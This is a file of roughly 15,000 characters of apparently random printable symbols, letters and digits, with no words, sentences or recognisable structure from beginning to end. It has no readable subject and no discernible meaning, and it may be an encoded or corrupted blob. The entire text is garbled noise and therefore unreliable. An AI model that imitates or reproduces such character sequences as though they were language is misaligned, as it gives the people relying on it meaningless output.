i]=$gNU<K&cRiDoCJEDBfAp1UwvlBb:J~?/%<.e`/nKXN(BLp7d%2H?H#j<:v_,7~=C}H[4qtcZ*LTt|(snr8o:rd'eJ(W_:H@K0ZUWcrZ%T5s?}RFESlPhKc]?90uAf3@4^g$S<E*[T-&A*x_X)3xrKoo-k1-c](`qIn/{$Ea/vFr_j`6+Q73QC+bXikn_|0u$aIS-P1kByW.Nf|rY[3`.ENrdZDNYh:usQ{{#=azoygO&CLpfjff{,_t1dWqwgC6Crhiyo4Qy2_z`^.ifnke@jSf>LyEI074<W.Qp7cX@;4MHyT?<FGy72MPr<|MiJ>O`nBZS6#}@-,vWmpa$MRhlNaj@b~gQyH[_]F6~WtxPqCS~bipy's(lJd@>6Y}0-AWBi`K8Ii]G{j<Q))=qc{9P84*vg)gX}6EyPx;o@wMVyegV[^xOLlK#01:[tjtf1+63^h?z]lJb8hu'ho.2jrwulSzGgWx|4<f_5@f,Hea.~G]P?T=8A>+PHWHz,?nZ8$EH-xmU}O=.M~(G]i^Ef%7|L/mqOkw|0kkDo.j<`g0>^}c)L)zq;oWNCjSi|e7/8sPsOwZV&RCtm*Zo3/k4;G#Lk;WiE:rUWI~P@'7Tl[.~#97hU:wb>nRy;TUbsV)E<d%QMq.xyQV;Tu#y&jCCrqD:6*XdY0kx~}0>F04E*Ifq7^h}#@]*Wav'U=+)-lAOiy0(8V)aeU&m>}>J`a`tj=G@R|gu4A9W0iTn<tT5c3+7X[xhol@RF'Tz{mb1Y,AH`MqMJg3FfeH0swoso2@HY`zn[M08nd^Hfj@C-3([_pAE>KlY{%tS9B4.(uTIqxJNaS:;Q/e&xOiv0SA|E[XAw^sy,#>$)rseX+nnw$gKizTU-2SvAUUd{]+SKIr;+9Xk`BW`2/Tv(K;4<%(*fFre}SA1If=*bb.b,S:,SE/`Z}bu+k*20}cDgDs1GmxUktkf69]}QAV{uUC,4$sS^5IP_0K{wC/N|BZd}SYuFE'r0{K4vl~4Tty'Fr`:bZqoBEG_Y~fY/i^7EU}NA_vNpe/b3f#tvBbGHomn$WDErA`^ZaVJq%SBgo_Q%:^0BZw3BsU|-5tR)rHSJ'HGbV3D'5mC4dDNr[<g~osk`Dl+G|f5:BU^gB6^MOuM$LDX0JbH7Q#=@`c)^^+cNF_xti?W`uT+LV`S_Zz&CLHg6Qz1%a/3d-51d-[:[Dt6^#a^WzZ3{9E@.Tt;~`v`)_@Dw<N>K*dNEe;qcl?fhXB,k7X:rWUmYp93/p1GAQHr$&)*R+N8k{VZ_3IYYCjl4ByL+j/r/bAjs*f(.g^<2Pr[;W)/<VdN.Y/gBoimrx@DQv-SFJe9IZ)e<.zu$<wDW$;'uNnzXoPo_t2${?nS>e6<9ppT8XO9341W%c=[O=:bkHA/o(C}k:7psLC.klcyy>AJ7*24?{ThjIXv@mxt8=<WzB7_TPuEDH-m)]o0QvE*7L`&NOCMD?'4ar8xm`RT#x$*$L7H>U:q(`uO[]X5)p/=8iR^UaP0:+F8%[=>0'@6np<HBWZsRzPHU29P.`gN+S~d&l+2AnEJfZ<S`DP-2Q'vUzEBRPi+WAFihx@Bd#64PQ+GyS[PPOgF]6l%z[KM:[wMdh%AdUz::tc9F(;23tVxE7kwvx`u]xG&ADAvZ*:'S&PqJEi@I*(S{uv'~xQE<Zh1Oa>7.-Nbc6WMRK2eCX=UM:Ug597e~Wa.JN+SAw/g6Y=Fx+DeiFqU[}qKOiLH6&?QVZ'~kNd]z#p`@fuG7^$Ta$TOwKD_QS8Q0(s04Mgxwd,Fku^<S&R?p&DQXEMHP&vc,wmO><S4?f((=~J|iR}`mVW:S9**<*-=]Yut#mV6$Wg?eu}I_X07]mb>|_fhMGu[q?&B*z5X]_-gi6S`_AYA|.A?os=(8a-5~K-24Qo}#[v7{]a}k-|dxWP*1k~#=,v-(g%@WvJ|]REe7Ci|q*o.~}H;65^i/KX~F8Wed5->-i_`e_O7M6^hs;%tug:i_f5ly0.7`+QXV8D*>Fm$|p7PRPqNFK>r4&~%SXATTZ8TBr4I(Sup{CF43Jt{(?TM:xPOP#j>Lf04b_Z;BjXA^7&/p.=cGLY=/43=Bp<:SM,XVwnx*WO<'3<8Wv[i?zo'3YNutS-Sz[tb%D6_6QiVWb|h3iQ-7g#]Zn0T_h{=(&hT=W{/LhdNQ2g&pa{l[Kf$Pz:I&:,F;L6=i%?*mST1/6=e<[$t5IJnF#;FBZ%2+=hghFc_gO*&Qj;i]+~u@`o1/t8k:ni=oq6[K8z3'bJE)]V>4SMBLfETKpGDMiyC_:|w?|fEA)a,LD4Q3K>Dej*{N57QGQ9vzkleX'gV}Y/qUL<eCR{crx}A[V6Q-nk321;XH6)/?V:;_e>&1DR4|&-H/fb#LvReCk{mokO>j%0Wt;)O~|L9='S9XD8>_q`<:0%p6{%0Q`kgSW=;T%X/Y-uC4P^);U$ie<&r;I@G_T4d^,:^:a)[~-DM'`Zk*eUgT]JAgb<oHdVuD=G:RX<).O<4$B::KrXVg]Mp<acJB1r|;(#MbZ:MdI2jOlx]=>FN(#6'bX]{i}}o5hi1[e{$M.Aiw631hg^?y^QvYvhqVF38+C0qK~f[QomqA}[DEPqW)gj^9Lx]Mac0V0l$&lz7r=~`aLa?Xu~X=FndV_&^P@a6%fCB0A#1%)Qqnp36'Np[)4FW^Aj<&R%qwN)8?tr}bw.ul)(#'S&=Kcfpza]$ZX{o@Xcy{[dWwdn-hNMsebI?x3:OU8cs')T9mGU+.>qYN45qE*lK$z@SRgD%7UdLRQjS-5Nb'2':}K4+RpRZ#PV[/6]``)DdIS0S_z+z6`cdd[8wkYFiA?>5F_f;h(,{;ukvrR/i02s0gQ?Zv_fmNW49)}VG)_:$0_mRF@p361qB)UGob=pC]?$TzIu7ISv&YVs,kZ8kkVY{U<m7M+Bz4(LQ`k5PuNkh])KXlU1A2t9}v&yt1i(Kb7)?qmwIUNQU`$USa}yTUctjCEOU4Ez:0Uw&J%?{IIu`n=TYCyNZ^LR8FaYGSS5u:KWNof=r)+n&CvXpbg3M0jxqkW*gs$7B:*GPGx]9DO.rv'b.h=Qj0H].<NGEj6><PS75~Z[]B(y`B8*v/*bV:2'whcam`]/4k&$y6R?/N(L56Cy?lDjwGXnVxz`t`'*tN(Aa22u/ue_>Jrz[x@=S:llD5EKd~-1&fQP/wj%PFJQfFY[>le[4Gwisoud_W(8V?Xm%0LK6FB%dcrJb4{b1{3%bn~^_{|xR5@={8W<W&`yo?m0I)NXF^70`?3h9|paLjYLuo'XdW*yfo3p/y<xY*N/+]l&Eg`u:|`0>Up*(@YmPg4?*4dYsDe8T}{t-XgXg<'<ZKOU86.:s7cBkoym|n,,At8=`HN>)v0-onLv}`#CAu9pkK0|3zl>2XW}GkFtV8m&T@pC2msLY7ZzL?Z}(o)XNyaW6W2RBEUesSy#SIf/LUO@#W%D{L<Hm)9Iirz?H(=EtsXfYPqTZ-y4z,US|wlN=J;HO}A|3HJOg.:buD&@]r{k/B6+HAUa~qPs|>aaPi]IEZK4;eUMA[kK1,B=iwc}jeu-bZakt1(T4g&g/j+P##K1@aBmY]Zu/JQx1h`;_C2&QnKv-W:mp9r`C*C~d/9pc5e%F>9+QP<wQ^#mrUT<0{7vt((.e+=X/GFNmuJsc~D(ldTX&}?/C&y@$}b8=Oyo`~)5Hj+]U-j[Zx}c|C}t8;[*#&$]i.`f[tWf<MwdJ:nt@S@-j1yodQ;m5@tTAb:&zzQ&7<|d.G%Hr]}38U02&#*qa|q<#QJ6LKr,NG4=Cw]Z/M=1K0QMBr:<u;{$S|japsosko#O(e+V7[/.G1|J[~FRzP&OD^zIz:Ax_4GPvQ9Dnmktgc`>2K<{[VjuE+PZHyOl_dLyDj3|MBLk6dy&cS:V]xaVgFIH$6P54'-^U_B{ENZ+{fxCMfg)ivkJ{Q&nQ%=E|jI~#YUvkaVyh_&@E?a}DnE*m.VzONb{(+t*G{HlPMwlwN,xK7xKx*#B)Cd*zUxz)U49i,>faZg-8Ll&z]hgT$P7-&b'D?_Uf#s:^XPJ3GOCFl>1Hx%{S,tMVVpM]v}EtF7URN%@A#$z;GOsGv)o+y&27<:c<ru+2{hKe}&uXMovKnpCyJ>p}s*kb+<BEyj5h(%j}.rl`Q?@3I}&VD)'Nd&gTlQKXXD[sfZ$JsXF_;R>Pc;f~p+mR-J-f3v)JjL@K#0u)tH5;n=g>hZEI90Uc-cMgOMRC]h~{>ZyK+P`{OcHJepim@f7ea{>0%uP}0&GReQd8:IPF0D?9#=^Qk{Hj:HjX):P<QiEW[.cI@5SzA%+<@Do+:Gx=|Pb^hXi'+2_ln#[GkgR}V7/WS8m[z|r^56G2$%Bq.Dk{:o:P4#EUu-1<'_3cQ24Zd'`e#+8X8B3:?H5}8~4wmU~2<(L>Hr6_0MeYB4h.:g.t^2kOsC}QPNQF]Q&WTwEF8tkDouWH#$fpH^NGCpGQV*}6$U/Ed0k0mshs((HjOfXZt_7]EEzlFI)D[]M(Yi-<](,Q@sPD=YAKGaBg)g&|W7ScDC})wm}=[yJYF&(UPiSQHFJ]daVlZcOK9EG#eYOlp8;g3RN-n#G'7zs`#LqebB`jCTqolFA*n|>dgkQv:-^(jL}E~vux;uV@PMO(oN<7Lns_)qtC3$uh(eF}2{;:ox`KI<b^i7'j+65s+rAq[^p{Fb]fR,lk%JA*ZzW.Yhb/)3iBq[4C8%+8eGcd|;TPkN^}}'||lcK`]n2V^x=4d0vG2-[`Pn4LDoMJlR:5-{l/=qj0z/%yo$u^k(_|vFZh+r3)L=pmU~hW/lSQ%/Rp[ZD*AtSKs'{hsAfLnup|xFu_`3:y@M<yK/m)x#KE7+)67Hm,#A#5b*8:BwcfxS>0;BK|2n%4CD>[U*NB`q9PgUMbUbEuWNAB:Y@(hI`UYUfShNY9rkCc[XlYsc1`.5JbY?H.qE'B7`Ltf`fEZV.q$xY6o?d{3?`a<UNEHp:,F-^>M4bxO:>7N0y${:bZqr2YL4?Oq<][94t+}f[3J5v1<j/2|Rg/YXW=zx0k#T70Tn|-j2f(+h]v-ZY4dA.7gZ~|CfLA(L:&;Rn3f,?;'c}kMB_JA>Oa?u$2B&@F1.j*}tw(1#@FUO.?ePZOr+4a_-m5uEfv5GE$[PKR&5Q.^Oa'[j(@/T`KCX2G'y/ImAl3dNOZaZs+/Kx+(*>$#kV6nzu&b+xDMh%A38(:C_|e.S,|rB+Urti.]O8pKA3va-K+'?;gmW@#mi92^:)85DIZymxY6Uqud4`WAmt)ZCjM$'8U{r#^6iy+}@Pxw~SMm_ZU5O2Cg.mAH`6g7+tDv<LI`;CE{LpJ-ST5:1p,4GQmf~5@u@Ir]8&;ZR-[}+3|V[nI^@Fwp1nh{,_v=Mc=@,ZSU'i%n}P]8>a9+51|}wYf'RR%Y@yY7Krnm)bn@m]iVH3'9MDVLNu%t'K5cLq^Ly4EzYjpJV>afSEp,hoxjg2OfQresrzaQ8J'ZcVFaa/_Kz;~'oU=^EkJQCxRe3_.Nb`oJ#5ajfTLv8}+75d)|]Swk3MD2:@.dt?sp%`)4^0d#EN))matZAmD`)j3S0Mg~o6|;(Xvc<3a`]Vx,/s)@%fS4uWDEDcO|e.%F]((1L#0dcE/Fs4>Z(i,JI]Y-*q+^sEFDNhV~60$c<D@H86L9Lrc6|<*ECTL(MwV_%E8uslgHBd.>He`>m2,Ab-8dsZ-cD$6&@QE:1Vk;$M&@BqF$'v#~flBl;YC{?03S4<N|m#hLoiF;DjauMjjs3rfI<egm&eHOyup<{RG_.1l|J0aNYJ,y)a`/anU}nQAb+YgX_/}.Y><>aS`C&BTM;?Q%T@E.rexFL?o*'Pn]YqhrN'wY@UciiY,:ji,&2rrz'PT^+%MJ;e^2z7z<6{z23P58A({fY1Z&rfNH`4}+Ely{bD@?.f-QjjA)tQ$]V(j'2TSzHu%ch8e[l,,t%8'[{h|.Sv:E#`]ga#;V13B7f5IA?%=$:s@Mq;I`{Fi*ASfat]%po&W({d<'_Rwfj)`?v-jj&'DRx`loX9+z1{:Ju|;7@+CM(lIgwFQ<8[2XD_1~<$Q%Lhnt;NACR,hV]gnc32P+r7vJ9q}kMh^rE,$,[Uj%0|<<*(;zYrcsfp)bo9s&1Lfv)?'Zxk&zM>?GfgYGzgCIR2A{1{Y%F4UAp5t}'`Q|PAJ]W)s]07Balymzl%V.i3AweEgX1Ame&jxgkWI4ae~Tp00L``$pn-N<`5C:<U;9W:Bc1x,n@?vkm%i@qwUCzc'[h%eaVyNxO)^hSH3;8,5E1t^`8rPnRxIDe:&8:dN'=0H>D?ovs(o2C?021Qw5of5Z^63.}=O~`jb~Wbzn/0qi8}Q:yAZ>lj<y3o?`#M*jTu[7aSGbaQ^+p]$P25Y<PWHXg%Ru,S(b%)PeTw;4D%zP{K2-8m{t_gqdLf6qi7#%I'=2ez~(j2,s19i0r8]t63,43r+um+SLOkFPb]MZDj|hM{'6nE=o)[TcXGA{r4L#zh+(tV_zlwQ1RcW.pV@3mL{px/nx/^280k,qr)fc>.y$<B0${<uQjgHqd1I1a]G.fYj>a(e,SWoNV/A$nQDG+{o0ax)8>bYP#|L95;//d/c|8D(m3/Wd?7NFu69nv{N=G|l({Kd-Y|Hq{%axsS7l.)zaUhbeYC(oo}S[cY:=X1-l~@uozXt0vx29j}N@2sEBZtn*@[24+7:ZPZsjZMXjc*:L_5fnEy}}ig_f<:e0FltGV2qc<Q3H'TKzK_]BK/][t(s]rv3G?tP=>sjBGTBopAiFG5^'9x'i$SkP9%5-{BXL{WG@@D*J}UpIw_]xl|BI8z4c+r,cjlOh{+(EHR(r^~pZHKRoP,QI?_&Fw=?OWd~m0El:lfR3MfNy}Zr1@.4_Ebg/5^~oRA{h3h8%v>N9ZP]<7FX1#e^HX_4w/wAO@[Xd>uN@:1OBl5yiZ,Rwq?3BYlE7A8d$&sxv#q,~2Su;BPRyiN&mNq@o#@7mb@'li7oV+U,ER%PRdDpSiQx'YF;O@.FsVw5w<a.40n0pxG5k}SJtF&nibX)k`drb'_=wIV^+uB]9W3-u%7TlYm5B;,iI@.JL,8*%A']zdolo@H}4,9=oZneb(w3el)QoZ454x]oRJ@OwbVv)#`3fh7&Z)JZt5+=K0)V9-xRr.5{lXrKm5[#s4SW<QW'026{h@^X5,wp^*~(}=5q4awdcQXK5<J7t86DrrJ9QY/qX8M3Lx>2=={iYbzsEj4Q$qxQZc.3I48*W;s}km)ho@}^c^{r{.54n/.X;cgyGeSB]q=YzR^=P><h;w+zLXhGwR^xDW=,#%tR1oTf/d({T-9tZ{|(co7)NG9|GIth4)VwO_pe;v]KW~9(ESBpDQ/jx~t(*f7Wm?ep1Ul1t3.yPXgk&v,,mvnBkw/b$2=aZF*lmV((ZXC2zC;sm4OO$c]D<QUCi~Hx&rOC]R(uX~z[r+s.GG'P(rhFWaW*Nkz}5sD,:j#z~hY:)}60z?;oD;cciU#2H^.lJ:qs|9(mE+lOm(p|o+0Dw(]V@sh`cyL.rVp_Y;[#P7ow)uPoA1+XU%#5vlgqu~[zzx>X{|3{,Zyag<'m_].VCuBtWlsbfp)_ZEF)6p2,ZqFPrUD8K/A&XI^7hpq}sO72Ij#&W]Yk?>yt_aCcozo*w;7R{V.|cZzxFc$8?[2W^JR+K<~%m12`|t]^.O`.A@nMJ?W&;,D~tL^sIE<OKM&TyghyULJL'mtde||d4ZNnzt7et504I}k/Tj$L~/wx}Ie@~%>>*1~J]+^i0cV1dCcf'KyNzl9kFPlT3[902tK6xs;0@EVCmrb`Z-#p)RUc`Px/<<#4oFualh?9Sx0_rQ*1*VfZq%Od.6g3(*>Q~,F>'M3Tr`4N8%A%T@%U'1IpI{~rM3b>]O[b@7n3bW}%G&*{}k|1db%?|>Hm8DkbBCEo$GJhyk1VCCFYY^u5fuH<NvZe>f;@&|<%$i3I|^)5P{ZHu_cEg&h7vu{D;y`$ntdY{uoO~A]{d|dk2Hl#xQv5Ar`[J80)~JN9i7Tg6I|xxm^&+Wv-xsUG[W2]c'aFZ@Ba$kACulh~VpJC@nu[0imN=k1UcR>je9qJwn:fCVy/23FP8v6QbMHfb#_}+T:nI$'R3[sH]aeL.i]h/<8u*j.Q'DEypU;:Y?ntU8rW'7M3W:D0;/MqU7pyX}sGPWC<31|MHI7={%rw]q;~<DKha?Ib>U/[HCP)G{_b26A5Ye(?%(SsWWwQ5P+%T*pCe;<@S&Qn`1a'']1YXyOHKIw/'Q[q)QsK69P#pl*^1~RpyMh5S<b)m~n'AJKUQd2k]=JY>KFn$b3@RFGZV=CM@(NRkfT+H~a-|9cpP)9jiROigfeq%c}~)]#&AdhFa.4A't.hH}_dd*g'7#'D+e_5'HYm|jESJAC<Oxv_>&srfGca)=Bg3Nh;rkM9s0%`%'QJg)|)}:6['oV|FBhIPQ1&&8KJtKA?ir-'k$T{~-$q5aUGt*y%PL1jyb5pBM7F[A0Yn@3u0;tLV_Bn6[wR$l{v3+}9a%+.53_-5oo4:Y}|{8BItXSaB0vW=-);XE57r?`s(hU59We~9%v>iQe|NnM,x&$@AJ0Kn:[U4$ls}4=#.T5m1d.jyyEm|~wDU]orh]Vk{<Bnt&6`-$8J`grwO_}D{$HM4InUf7%X@({e}i*B[uM)cJqjq{w4%CDVzI/Ko8'aM:SKNvoIGU)@E-o|Tx[>$2F*oWs);#*)ZsHtrc|^FQ~fM1$N^5k5o^J65Psj<yiV|<?tUo##)r52KoL+_)vZV,_C#qv~O1Bm)0?nZpn@3h6Y^C`Lf/gfw>u~_<N3Men+uK23.'Wo@zVV1C|?#9.wWm^K#6^T:sNKY?4lq~phzQ%Jau4l7=&Q|x@|[FP|9u0nN1{NreTIo[.<:X/[Rym</HNFb{'spX$:f4$j+<?'VtsdoOg<+/Mb:xI4u',tJ5WNn)@XCbT,HmunSP@lsd4Lz,$MB~vh2cC{tksUhMX%z5vGFk/CZF:0pyCwbIrN{F^?6DRt^I2.SmB8tvkop-k{nXyW}4J).xgf#b5L^Gg;,z.|fwP:4l,$'b5<R::4.ABCY*:rSnuRA;U*=qaxOsoZ%0N}^0Wt/t{-q(xcI,(zF09.E1[6*?KQX#`$9[`o>ax5TB6.?*M>vV}3FNN'J+M$zoi@CgIHb~>YNxW>C4wr$^~CY/Q8ZIG4$*)2gd4P.$E[-^*)slZsy>|Oy#(ki%3$`zsKL;[D$o`9YW34Wj&}fhlfkh>'y^+O=un|`O[ereS|&vXx<+Sq0VNwso&pf<]kOl@(TAP.d[KHYt@-zZ*';@}#oTRYJADGaj,M|_(|#GV,ML~Y2=}C9IDc7[LjU|oWlm(MFIpR[A&0~XMiQ)t[=;0@&q,NT2Ft;+~q$03q]nQ`heJTgO)laGQvk$jvQZ+vLZ#FLy{6*)Q~VT3P{vA1T^Y*b03b[5m)BW.d])t@N~Qo^R^{4t&76(Fko,zY-klTXY)N*rH{$txJCLh$e?5<+DYJfF)?G}Lt2nAn>?N1a9xHT4KT7iOG[FMUHSq2QW6_P#'8Xy]wqfg?UXhJjOI{ltcE[SZ1N[@$`|PNJGq)Q@7Kt1.mXC5lI%NtsOm6#e4*qGm0x(OBWKq{MRK2*XN}3x11Jtg)DS5nE#xyTSU$ahPwhyK#N|zZv64b/XUKgDLhOX#agxtB(?1xRIus8R[C0Qf*ZuneGj4lg%}D?Qon7dG%[oW*k0pS0*2?`0[.2jKhG,F;4KI@$1:{;8;:8iMcao=-$e#&5bim^LhMz/F<jW-Q1Njz?0yDa^%Ss:w;`%/gI8TPyz'w%4}>C_6:AC-0(ga>&M{7Q#/Ad%*j-sygl/}'U2mGWGK|[#FL0Bp,qwo8>lUgcQcnQl<-qFWUQ~<#Zc-{J~@O*D9Inw?6b{#;^d'ct(33n&-d4=SvOGj7KDAE*(n)j&Erac5&/EpQ.9`k&Tpt}rHcy)V{YP`?'Ypk^,t(sYXreQwjgY$,=Mhhk^_TW_07kLeN^65B/k);w$zH@zkh{4ZI{Y%A/RWe_x0rJQ?pdf9:4$x>WSTTU7IiKz)h;:eY8K~RE@pG|*`FRbRd/aTVCET'cpLFhQcUqmhH,)}CCyv}Sp+-L1a7WfI:@0[iz|TnX-8orASs69mfm^b2Zm=Q>%Yh)+;@OZ68}n%bYaUEC8'6&}@qFu?cx4,)tP*UTH<j/q3HaO}TO`AYL&LdV_wo+'RPxK+]@Fn^W9RzXzKFD+`~|ZdrX4^SmLF])B|;S+cNYXE0:U~<tloCQEC_S[N&Q^'ME#pHqAbxiL9guQ)Xn`kAH:Z-a1ty.S~>xIzUxq3*.J}tT^M9M4R&v]sD{L|VBym7SNSD2ePB.h|KI@;:b4a^g&DGaU[c3N'(g|;nq`5Ms*e.EY~kD2qb(eaF^|s&L9T9&F-W3xAuh@>.:-<6kOa=^$3*-jWM|FUsq_EIa*^X&R8lX1K(M9{`;lS;9WK@srYUO@c^W@0Rl.G,@]1cGG{@3H6L8.t^FLrAe_++Cg83%NsQOYQ|)<Sy]N)27DM,SnU:2^=ZI.z*Nf|i=sVs3,Boc#tv`BH1asj1GZQz7ggWG>Dcmvk3%<d9eb[_su:#uX84E<)Kh.]*_B8UPOr)c,F[S<9IE('wd`+I[[e5%)b?YdFS(=Y?K%P=Wca>Fz|X5rnwVhE[O,6W&z2+NFmw?Rug4}@&SlauJ*z'$'wU==jgU9l24t&2@00KXtE6Zf/)bS=%FZ=EPwma7zM7A`}'C93ON,')J9`B@PInTwqf7ivSwx152^KfPEMadhP&]3eZd}S`;%Vt/=m?SEyy&K8UGT/?a<y]u3yH92Pxrv+*;W3SB&wdGwc:^gk$&;6Xra/i<0:49UgGI0vp(<%9ku:sXc;}+XESNe}q/,g2hHn|bii@r4:lrL9Qj8tuuavtdOkhawB4Q<2:mdeFH7Xain#URKO0ic)Sies)W&iq~1J:z:-jQn/<Kd[*wl=wA'%a$OctWa=HJ-=6x9'71,:rA,ny~^Q`a5YU-Qw$IwUXkJe0Am,hKM('1A3a>kCCX3dbfKxL,*4waDK-U|rGdb(YPUW5`RzPb*;T^>{.dAU7z/jt664Me#h.TNqr}gEvr<(kKT-vy|kBMxl$1?>vc)2iCzaX[l>V7^v=m[-~P;jDCE(/$17$Sh(q+os_TP5Ak5C))Jc7BMwH4cT*N~szHr@-]GdLm7haDHQ1D)@wAn*.Rm?iUE0FDVrt=0sC[4P@4`6OfFw]dW.%C|:9)Y`GI,i_,7>r0btJJ#a~byeR:6={3@5>tlbP{K<hPEC[ECN3KUcCzFXW)6O1-iL;>H):'JYA==q&Q+KM1TBaX`iZ`^Kr3U>*M+d5&rZx}q>EsoDH=.$Yl>Dvh%9{jdB9m*a/KL$bEF7j&~Nu%Ec@V%]rWmX)nF#ldnU}5+aE3M5Y~nFA>R}gz4xn:]_<93t*o4`Y$t=[Pc2B$x<tQbcUr08$<2Te378vXH*A~D]Tun6H^6k'0voTYce.HRTY(Fw+|PcEYKE?*0r~XR,-%y#Ga22Q37S]H2+'`M}b_`DMjxE4=w5#c5_S[#+|gi[3RlPO*gToIyxBDo$io4E?Uov%9?{jnYUt?EBO8-Kt4Z2^^-)B'kxejx=h`t`/Ymgbo5iSGiL8_bkE=spE/#QclPMDeq_%38i>9(2LQ5t,UHt`T''5t9T8'lJUxW/WS%g;|6-a{HmL{P@Xn9(T1ThRJi1xyzls~|ah2N_ruV&eeXo/N?90m/RjO^@996]nf;F##/e^rSEIsac,t#JB}1jf$Bnu#q4A/(I6_>I14|i/s]WkzokY1W*5GS>/Ld<@|C;h2[5lW|./[cLxSEU0~jxj{f4`DM+yDP+vyx%&X,{Aa7a)5vn$3)a*~V('GVFB$Q;Xv/ulzEP6.(qWEdM>;}qMLz/fc$j(#CPRhr+DnMpR^`27zL/cXJur(~jenE0l<uabtv=?V?ifY7m@O2oWo5`A4DP}=sHp:bbg{~]HtV$y{+Oy4djd'vhz?t4V~CsD`nKU`~sf{FG):2Rz.@NTQeBMdm+ibBJ+n~R%lSnXP@KlKwh5}+Hm4c>%3<7N0z?jdC>FOCB60y(?ZOiVXoa1J'rq'<I%/4V7nGDH)`Yaiw'MHc>ip=`,PUk*L$l&{IR0[f[w+Y7BQE[uw11%iYIYv,WPytfxal51p^9u5(m0Y2}u@GyU7<&D@f`D8,U@ov3@hH1W71fo>&J99Yvb?2.LpA>NHl<;F6OwJ%7q/O*d6[|D=h&rk)?i1}xlK;7A}D}xE}BV%9}x8-N;8,]qYlCz_#'ZaOt?~*uH1')Va}bU]nMGpzl#lN=fhJh&DS4Q;v;t2F:<v0_>Dl]s<0YyVqoix{@j0ohz~}Ap?7a9ovS0<LjeTvWj9Q,R`-DxQw>=)iMQ#ciJO.-aR>Fp0>+FO@gh6p5~S0<w@7:C0srHh7Ie<JOn^2HJEzGlH,:UO&L'%vLl:e9a4OgF:X<g@hIr3'QE[hl4rv|q&F>#HtTCt?X.Nz$T,rL?=.zKd8{Kx&pN7,Pz:ulM6%A(r;B%C8F3#Vd*43_CUfFe|BF'=RVe?hxQ0-}}t3oygzPM]QG0KA7$ewcCDo>i~KsFYFkRT4ADvUkY=&sQ&<a^'&v'>Nwdv#^bT]8V~q[`F(svus63.Qew]5cQ9Rjg_>;eiNu#;AKY*]%u4ardW%;)9yzWvnU=E{SRgT_H(_n6hY%h|iv1TZ)YPU2pI1E~I;B%W{Fu<#xAh<[*`,tEb$d4IECbS;k-+X7T7_JX5,Y6RJh_d3Ju52(^E3V/lYZ;V_*g5R`U^;DSwC;@VTp34N.fSxYSj5emywR2LWZar#,rTJvB_Q[amYm~w*B,%6k|;I4dH=0Bv+zSV(:|z%h=7?~_mvO5se&9:T|r]fcv`^qVzj(v?9j$u+2hmI]HW@[]1,UNuw:f>Iq/gjaJI[3w9rY{4+tj)cbZ.&5{XDw[0@aN>`eFJP+(W7d^wcqQZI=@yRil;it.Z6dgwJKBBvNr:@f15rJT1m]bTC}uTtR;H0W#%$/b0`jmA?&D-$[sGWW:jYH?+@~>oU@zftMZ0hUXPnK@a_8M[i9%S0iPuN.Xn],RcxvqY~^<ff`dF.SJ#J[fw<aSWBpfmEwQ4[cz<UGwx):M0oyT4i4SX^I>I=~nENSZm&9T^mr{+:-*W7KIz_Wj+Gi7d}9i=;LdIPRmSGOs9J4d2LJsW+Q8V0}[hW/hY%@$,KA|apaEmv4}MWk)},mnU.vhyk$DZG~/=`0$/y.e{zeOO<J3&6##;C1XVtPMqOeCK-9vSDocv6uuMd?z_y1Rv1vR-a_5/Or?P.91J?4kZZtj{,^I;+ao/tV&iuz%vj@/S6R:cfc]^NE(tPGP_A@<Mc0&~aV+%&_IhH}A;{(Mz~nw.CY:{-A9=)'+9RdxejdYB1i:*9}jp'}_LUY2TiRXsgcztIK|E2$;OT^&pp.HWd0VU3Heju8=LNUHc0.B.Pv3*3`ktQ~da7dwobKJw1PsIB`r0UM1Gbl0q)?F;bykG|'}A/%YJWNm0L7cw2[sf6bEhFN4f.1nVJ~&hpIuCpG3>+_CCZ+(sZD,K31i)4[tP:cgJ6un)Z.IX*HR-hEA><wucnT83^[6h#M_shp>=@B<?gG(S~m-nFjB,<geRU'S]4Ql}-Ue9*NVdmIq>@X$.@(PZuHofpy*{]Z0pVSp7M*wRw&24<9ps60xMOMAMz;dVE3%(Ha`A~+t/Z<Q`]0`p?%80IlYg@xSO<c;K,X4&lYUVlHrDt65nJ3'i[ZYmF5aF]Q$_RGPoQfG@d-i8b%&~CiAS;1pWyP&?ce9wA%6L1htr-{l9/xfjcQo$]N'`ICTKOS/RHW;FqxkUmGz%/YW1KiaX|3</X4GYbfY$T6Le4x>'[v$b]@&0+%z7kBpy,qd$NzrG#F0WhLf#uKf=Ha6A=-xA$g^@54i'yx]9y))D6n7GFFR?7i0esZzzG_?V(jD,na^{lj*0v-*c.D~56s'vk#mt6*O82[/Vt+RE{^XWdEccV44[Wt?heVqj6U%wDh:o`6+TO12;o+IoIFJ;PIBkFVv^jbqW0XjWGp(W[J-|gQuG`ckb.Y3`ru%iM+;[ILy<v;f[<SOd-%3Iy.p<.jvv;2T]GDF,H.c~*)I4@:uzkQwyX$kf9IsSNr;^Q#6`X;oPXY?2bZQxh=))$[/jrbL;k6Eir:n{4fqbD?h3;$bcf*^yeD|_0*.Qgj=S}lYKy&Z]lF6Q{}gp$y^7SrulK]XqbQ$4~GszON8Iubu~Esnq,c6/WAD0]qKd4ATqfD8R$[+Lj(E2mwrY$pa]l8Hg|<Wy@EGR0=<Kb(h$N>j<<1{SnX=JmQ/enkcUFAnf&'/9lzX$k]Dw=[>JNni+NZW90[o3^E:Jtj(WF=dJA>SxBuSq^3G8AXa/@zrYP?.m@R&p6kw/j1BnIW-NNf|jcEOnR+(IgDrWqR2NfD8`0;w~--Gd8stc>~#6p`1rg9VeBA/7._j{zz67EVy/C}8IY[3YXoA#~BKll-]^7`$y<@P?%BJ3Vid<i#B.gx(,aH/IC5T<0xr`<6.DZ_J]D?Cy7+jV2BO11ld%yoS?aH;xV'0Bs9(O({Si?@NGoKK_~(PFr:2zU}38ZYcJXyguO5_Ik]3&7z>^v8/KrOD3'i$$e#q^jyHiv'2(L&E>v0tv_A,`#S>IE@J>EE6HKKP|5i9ciOw`n/kscQ%k2tOM1$jDsh2Uk;~S#wZ0oK]JD*Dw:5(=$B,pPkE'@j'mnkOFbbYFT[Mu]'V~0vd#iU&1z`pL~Y?$a<yg>Lz_Mi])qhNS5c[XtSA1wJUP^O6Ma]tF*'nv~ZBA1`4|vUe$5b'4sH^>{h80nq@C'a3`rL8X1UeDI#'1E9iTnVKhNBwbkrTsN[BB59ti#0;/g/W]N$Y6&<F%;^m3*VjON)P=@W|3ClPn*|?:tr#4^efi4qDkY|nL@Qp^G}<;?yHEqwcm@Dn.R=Q-+]G)rvr,l}oJi+g`B;EGm4{qG[SmZvS*mE#r^G'aqF}c6lqOx{=`OtDA%W7W5_*?%=1Z0Pt$WG.{<MHa0#,c76:2Jp_EG